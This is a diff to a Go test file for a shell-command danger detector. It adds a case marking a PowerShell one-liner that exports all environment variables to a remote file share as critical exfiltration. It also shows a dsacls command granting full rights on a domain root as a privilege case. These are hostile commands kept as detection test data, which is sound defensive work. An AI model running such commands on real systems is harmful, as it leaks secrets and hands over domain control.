@@ -704,3 +704,12 @@ func TestDirectoryReplicationRights(t *testing.T) {
 	cmdc := winCorpusContextFor("cmd")
 	checkDanger(t, d, cmdc, []dangerCase{{`dsacls "DC=corp,DC=example" /G corp\svc:GA`, CategoryPrivilege, "win-directory-rights", LevelCritical}})
 }
+
+func TestSecretsExportedToShares(t *testing.T) {
+	d := NewDetector(Options{})
+	ps := winCorpusContextFor("powershell")
+	checkDanger(t, d, ps, []dangerCase{
+		{`Get-ChildItem Env: | Export-Clixml \\files.example.net\drop\e.xml`, CategoryExfiltration, "win-exfil-secrets", LevelCritical},
+	})
+	checkSafe(t, d, ps, []string{`Get-Process | Export-Csv \\files.example.net\drop\procs.csv`, `Get-ChildItem Env: | Export-Csv .\env-names.csv`})
+}
